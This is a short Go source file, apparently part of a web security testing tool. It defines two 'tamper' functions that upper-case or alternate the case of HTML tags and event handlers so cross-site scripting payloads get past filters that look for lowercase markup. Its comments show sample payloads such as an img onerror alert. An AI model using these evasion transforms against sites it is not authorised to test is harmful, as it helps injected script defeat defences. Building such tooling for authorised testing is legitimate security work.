package tamper

import "strings"

// uppercaseTamper upper-cases tag names and event handler attributes to
// bypass filters that look for lowercase markup.
//
// Example:
//
//	`<img src=x onerror=alert(1)>` → `<IMG src=x ONERROR=alert(1)>`
type uppercaseTamper struct{}

func (t *uppercaseTamper) Name() string { return "uppercase" }

func (t *uppercaseTamper) Apply(s string) string {
	s = tagPattern.ReplaceAllStringFunc(s, strings.ToUpper)
	return handlerPattern.ReplaceAllStringFunc(s, strings.ToUpper)
}

// mixedcaseTamper alternates the case of tag names, starting lowercase.
//
// Example:
//
//	`<script>alert(1)</script>` → `<sCrIpT>alert(1)</sCrIpT>`
type mixedcaseTamper struct{}

func (t *mixedcaseTamper) Name() string { return "mixedcase" }

func (t *mixedcaseTamper) Apply(s string) string {
	return tagPattern.ReplaceAllStringFunc(s, func(tag string) string {
		var b strings.Builder
		n := 0
		for _, r := range tag {
			if r == '<' || r == '/' {
				b.WriteRune(r)
				continue
			}
			if n%2 == 0 {
				b.WriteString(strings.ToLower(string(r)))
			} else {
				b.WriteString(strings.ToUpper(string(r)))
			}
			n++
		}
		return b.String()
	})
}
